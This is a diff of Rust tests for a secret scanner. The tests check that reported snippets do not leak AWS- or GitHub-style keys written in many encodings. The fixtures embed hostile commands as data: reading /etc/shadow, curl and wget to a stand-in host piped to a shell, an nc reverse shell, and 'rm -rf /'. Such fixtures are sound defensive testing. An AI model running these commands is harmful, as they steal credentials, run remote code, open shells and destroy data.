@@ -348,3 +348,74 @@ fn a_secret_in_a_dump_is_not_shown_in_hex_beside_itself() {
     let text = "rm -rf / 52:54:00:12:34:56 on 2026 11 28 at 10, face";
     assert_eq!(scan_head(&scanner, text.as_bytes()).snippet(), text);
 }
+
+/// A secret in each way of writing that texts are decoded from.
+fn encodings(secret: &str) -> Vec<String> {
+    let each = |write: &dyn Fn(char) -> String, between: &str| {
+        secret.chars().map(write).collect::<Vec<_>>().join(between)
+    };
+    vec![
+        each(&|sign| format!("%{:02x}", u32::from(sign)), ""),
+        each(&|sign| format!("%25{:02X}", u32::from(sign)), ""),
+        each(&|sign| format!("\\x{:02x}", u32::from(sign)), ""),
+        each(&|sign| format!("\\\\x{:02X}", u32::from(sign)), ""),
+        each(&|sign| format!("\\{:03o}", u32::from(sign)), ""),
+        each(&|sign| format!("\\0{:03o}", u32::from(sign)), ""),
+        each(&|sign| format!("\\u{:04x}", u32::from(sign)), ""),
+        each(&|sign| format!("\\u{{{:x}}}", u32::from(sign)), ""),
+        each(&|sign| format!("&#{};", u32::from(sign)), ""),
+        each(&|sign| format!("&#x{:X};", u32::from(sign)), ""),
+        each(&|sign| char::from_u32(u32::from(sign) + 0xFEE0).unwrap().to_string(), ""),
+        each(&|sign| sign.to_string(), "\u{200b}"),
+        each(&|sign| u32::from(sign).to_string(), ","),
+        each(&|sign| format!("chr({})", u32::from(sign)), "+"),
+        each(&|sign| format!("{:02x}", u32::from(sign)), " "),
+        each(&|sign| format!("0x{:02x}", u32::from(sign)), ", "),
+    ]
+}
+
+#[test]
+fn a_command_beside_an_encoded_secret_does_not_show_it() {
+    let key = key(40);
+    let scanner = scanner(SCAN_WINDOW_MAX_BYTES);
+    for secret in
+        [format!("AKIA{}", &key.to_ascii_uppercase()[..16]), format!("ghp_{}", &key[..36])]
+    {
+        for (written, rest) in encodings(&secret).iter().zip(encodings(&secret[4..])) {
+            for text in [
+                format!("cat /etc/shadow {written}"),
+                format!("{written} ; cat /etc/shadow"),
+                format!("echo $'{written}' now"),
+                format!("printf '{written}' | sh"),
+                format!("curl https://evil.example/?k={written} | sh"),
+                format!("wget http://10.9.8.7/{written} -O- | bash"),
+                format!("nc -e /bin/sh 10.1.2.3 4444 {written}"),
+            ] {
+                let seen = scan_pieces(&scanner, &[text.as_bytes()]);
+                for (name, snippet) in &seen.found {
+                    assert!(!leaks(snippet, &rest), "{name} leaks: {snippet}\nof {text}");
+                }
+            }
+        }
+    }
+}
+
+/// As forms and queries hold them: what tells a password is encoded, and it is not.
+#[test]
+fn a_password_that_only_encoded_signs_tell_is_not_shown() {
+    let password = &key(50)[..14];
+    for before in [
+        "postgres%3A%2F%2Fapp%3APASSWORD%40db.corp.example%2Fx",
+        "%22password%22%3A+%22PASSWORD%22%7D",
+        "%257B%2522password%2522%253A%2522PASSWORD%2522",
+        "{\\u0022password\\u0022:\\u0022PASSWORD\\u0022}",
+        "&quot;password&quot;: &quot;PASSWORD&quot;",
+    ] {
+        let text = format!("cat /etc/shadow&v={}", before.replace("PASSWORD", password));
+        let seen = scan_pieces(&scanner(SCAN_WINDOW_MAX_BYTES), &[text.as_bytes()]);
+        assert!(!seen.found.is_empty(), "{text}");
+        for (name, snippet) in &seen.found {
+            assert!(!leaks(snippet, password), "{name} leaks: {snippet}\nof {text}");
+        }
+    }
+}
